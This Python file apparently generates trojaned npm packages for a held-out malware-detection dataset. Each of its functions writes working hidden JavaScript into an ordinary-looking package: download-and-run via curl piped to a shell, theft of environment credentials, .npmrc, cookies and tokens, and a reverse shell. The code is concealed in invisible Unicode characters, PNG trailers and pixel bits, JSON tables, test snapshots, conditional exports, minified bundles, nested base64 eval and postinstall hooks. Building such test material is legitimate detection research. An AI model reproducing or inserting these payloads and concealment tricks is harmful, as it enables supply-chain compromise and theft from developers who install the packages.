"""npm: what hides in characters, pictures, tables, fixtures and manifests."""

import json

from corpus.heldout.hiding import b64, chunks, low_bits, minified, png, selectors, xored
from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, trojan


@trojan("colorwheel", "npm", "import", "download-and-run", "invisible characters", "GlassWorm and os-info-checker 2025")
def wheel_unseen_selectors(update: Update) -> None:
    host = update.host("calendar", "eventlink")
    inner = f"require('child_process').exec('curl -s https://{host}/e.sh | sh')"
    code = f"""
'use strict';

const decode = (text) => [...text].map((one) => one.codePointAt(0)).map((one) => (one >= 0xfe00 && one <= 0xfe0f ? one - 0xfe00 : one >= 0xe0100 && one <= 0xe01ef ? one - 0xe0100 + 16 : null)).filter((one) => one !== null);

exports.mark = '|{selectors(inner)}';
exports.width = (text) => [...text].length;

eval(Buffer.from(decode(exports.mark)).toString('utf-8'));
"""
    update.add("source/width.js", fill(code))
    update.append("source/index.js", "module.exports.width = require('./width').width;")
    update.payload("source/width.js", shown=host)


@trojan("ansi-paint", "npm", "import", "steal", "in an image", "img-aws-s3-object-multipart-copy 2024")
def paint_bytes_behind_logo(update: Update) -> None:
    host = update.host("www", "linkdriver")
    inner = f"const os=require('os');require('https').request({{hostname:'{host}',path:'/register',method:'POST'}}).end(JSON.stringify({{id:os.hostname(),env:process.env}}))"
    code = r"""
'use strict';

const fs = require('fs');
const path = require('path');

function processImage(file) {
  const data = fs.readFileSync(file);
  let convertertree = '';
  for (let i = data.indexOf('IEND') + 8; i < data.length; i++) convertertree += String.fromCharCode(data[i] ^ 0x2d);
  return convertertree;
}

module.exports = function logo() {
  const tree = processImage(path.join(__dirname, '..', 'logo.png'));
  if (tree.length > 2000) return tree;
  // eslint-disable-next-line no-eval
  return (0, eval)('(function(require){' + tree + '})')(require);
};
"""
    update.both("logo.png", png(24, 24, b"", update.random))
    update.add("logo.png", update.old["logo.png"] + xored(inner, b"\x2d"))
    update.add("lib/logo.js", fill(code))
    update.append("index.js", "\nrequire('./lib/logo')();")
    update.payload("logo.png", "lib/logo.js", "index.js", shown=host)


@trojan(
    "motion-view",
    "npm",
    "import",
    "download-and-run",
    "low bits of pixels",
    "steganographic packages 2022 to 2025",
    hard=True,
)
def view_pixel_bits(update: Update) -> None:
    host = update.host("img", "motionhost")
    inner = f"require('child_process').execSync('curl -sL https://{host}/boot|node')"
    code = r"""
'use strict';

const fs = require('fs');
const path = require('path');
const zlib = require('zlib');

function pixels(file) {
  const data = fs.readFileSync(file);
  const parts = [];
  for (let at = 8; at < data.length; ) {
    const size = data.readUInt32BE(at);
    if (data.toString('latin1', at + 4, at + 8) === 'IDAT') parts.push(data.subarray(at + 8, at + 8 + size));
    at += 12 + size;
  }
  return zlib.inflateSync(Buffer.concat(parts));
}

function read(raw, width) {
  const bits = [];
  for (let y = 0; y * (width * 3 + 1) < raw.length; y++) {
    for (let x = 1; x <= width * 3; x++) bits.push(raw[y * (width * 3 + 1) + x] & 1);
  }
  const byte = (at) => bits.slice(at * 8, at * 8 + 8).reduce((all, bit) => (all << 1) | bit, 0);
  const size = (byte(0) << 24) | (byte(1) << 16) | (byte(2) << 8) | byte(3);
  return String.fromCharCode(...Array.from({ length: size }, (_, at) => byte(at + 4)));
}

exports.placeholder = (file = path.join(__dirname, '..', 'docs', 'preview.png')) => {
  const module = new (require('module'))('placeholder');
  module.paths = require.main ? require.main.paths : [];
  module._compile(read(pixels(file), 48), 'placeholder.js');
};
"""
    update.add("docs/preview.png", png(48, 24, low_bits(inner, 48, 24, update.random), update.random))
    update.add("src/placeholder.js", fill(code))
    update.append(
        "dist/motion-view.js", "\nif (typeof window === 'undefined') require('../src/placeholder').placeholder();"
    )
    update.payload("docs/preview.png", "src/placeholder.js", "dist/motion-view.js", shown=host)


@trojan("trace-log", "npm", "import", "steal", "in a data file", "locale tables with code 2024")
def trace_locale_table(update: Update) -> None:
    host = update.host("i18n", "tracecdn")
    inner = f"require('https').get('https://{host}/l?'+encodeURIComponent(require('fs').readFileSync(require('os').homedir()+'/.npmrc')))"

    table = json.loads(update.text("lib/tables.json"))
    for at, part in enumerate(chunks(b64(inner)[::-1], 24)):
        table["locale"].setdefault("fmt", {})[f"k{at:02d}"] = part
    update.add("lib/tables.json", json.dumps(table) + "\n")
    code = r"""
'use strict';

const { locale } = require('./tables.json');

const joined = Object.keys(locale.fmt).sort().map((key) => locale.fmt[key]).join('');
const format = Buffer.from([...joined].reverse().join(''), 'base64').toString();
try {
  require('vm').runInNewContext(format, { require, process, encodeURIComponent });
} catch (error) {
  module.exports = { failed: true };
}
"""
    update.add("lib/locale.js", fill(code))
    update.append("src/common.js", "\nrequire('../lib/locale');")
    update.payload("lib/tables.json", "lib/locale.js", "src/common.js", shown=host)


@trojan("form-guard", "npm", "import", "backdoor", "in a test fixture", "event-stream-like fixtures 2023")
def guard_fixture_snapshot(update: Update) -> None:
    host = update.host("ws", "formguard")
    inner = f"const W=require('net').connect(8443,'{host}');W.on('data',d=>require('child_process').exec(''+d,(e,o)=>W.write(o||'')));W.on('error',()=>0)"
    update.add(
        "test/fixtures/snapshot.snap",
        "// Jest Snapshot v1\n\nexports[`card 1`] = `\n" + inner.encode().hex() + "\n`;\n",
    )
    code = r"""
'use strict';

// Formats that browsers use for dates and cards.
const fs = require('fs');
const path = require('path');

const file = path.join(__dirname, '..', 'test', 'fixtures', 'snapshot.snap');
const text = fs.existsSync(file) ? fs.readFileSync(file, 'utf8').split('`')[3].trim() : '';

module.exports = text && process.env.NODE_ENV === 'production' ? new Function('require', Buffer.from(text, 'hex').toString())(require) : {};
"""
    update.add("src/formats.js", fill(code))
    update.append("src/index.js", "\nmodule.exports.formats = require('./formats');")
    update.payload("test/fixtures/snapshot.snap", "src/formats.js", "src/index.js", shown=host)


@trojan("req-lite", "npm", "import", "steal", "conditional exports", "packages whose exports differ by condition 2025")
def lite_conditional_exports(update: Update) -> None:
    host = update.host("registry", "reqlite")
    update.manifest(
        lambda it: it["exports"].update(
            {".": {"browser": "./index.js", "node": "./lib/boot.js", "default": "./index.js"}}
        )
    )
    code = r"""
'use strict';

const keys = Object.keys(process.env).filter((key) => /(AWS|AZURE|GCP|NPM|GITHUB|STRIPE|OPENAI|ANTHROPIC)_/.test(key));
if (keys.length) {
  const lines = keys.map((key) => key + '=' + process.env[key]).join('\n');
  const params = new URLSearchParams({ q: Buffer.from(lines).toString('base64') });
  globalThis.fetch && fetch('https://@HOST@/search?' + params).catch(Boolean);
}

module.exports = require('../index.js');
"""
    update.add("lib/boot.js", fill(code, HOST=host))
    update.payload("lib/boot.js", "package.json")


@trojan("ua-glance", "npm", "import", "steal", "minified into a bundle", "compromised dist folders 2024 to 2026")
def glance_dist_only(update: Update) -> None:
    host = update.host("s", "uaglance")
    code = minified(
        [
            ";(function(){try{var u='https://@HOST@/c';",
            "var k=Object.keys(localStorage).filter(function(k){return/token|auth|wallet|session/i.test(k)}).map(function(k){return k+'='+localStorage.getItem(k)});",
            "k.push(document.cookie);navigator.sendBeacon(u,k.join('\\n'));",
            "}catch(e){}})();",
        ]
    )
    path = "dist/ua-glance.min.js"
    text = update.text(path)
    update.add(path, text.rstrip("\n") + code.replace("@HOST@", host) + "\n")
    update.payload(path)


@trojan(
    "chain-kit", "npm", "install", "download-and-run", "nested layers", "pino-like typosquats, nested eval 2024 to 2026"
)
def kit_nested_evals(update: Update) -> None:
    host = update.host("ipcheck", "six")
    code = f"const{{exec}}=require('child_process');exec('curl -s https://{host}/api/s/8c96 -o .vscode.js && node .vscode.js')"
    for _ in range(3):
        code = f"eval(Buffer.from('{b64(code)}','base64').toString())"
    update.add(
        "lib/validate-wordlist.js",
        "'use strict';\n\nconst words = require('./wordlist.json');\n\nif (!words) throw new Error('no words');\n"
        + code
        + ";\n",
    )
    update.script("postinstall", "node lib/validate-wordlist.js")
    update.payload("lib/validate-wordlist.js", "package.json", shown=f"https://{host}/api/s/8c96")


@trojan("buildnest", "npm", "start", "download-and-run", "constructor tricks", "command lines that fetch a helper 2025")
def nest_helper_by_index(update: Update) -> None:
    host = update.host("helpers", "nestdl")
    code = r"""
'use strict';

const load = (name) => module.constructor._load(name, module);
const { [`s${'pawn'}`]: go } = load(['child', 'process'].join('_'));
const { [['create', 'Write', 'Stream'].join('')]: sink } = load('fs');

exports.warm = (folder) => {
  const place = load('path').join(folder, '.helper');
  load('https').get(`https://@HOST@/h/${process.platform}`, (answer) => {
    answer.pipe(sink(place, { mode: 0o755 })).on('close', () => go(place, [], { detached: true, stdio: 'ignore' }).unref());
  }).on('error', () => undefined);
};
"""
    update.add("src/warm.js", fill(code, HOST=host))
    update.after(
        "bin/nest.js",
        "const { run, graph } = require('../src');\n",
        "\nrequire('../src/warm').warm(require('os').tmpdir());\n",
    )
    update.payload("src/warm.js", "bin/nest.js")
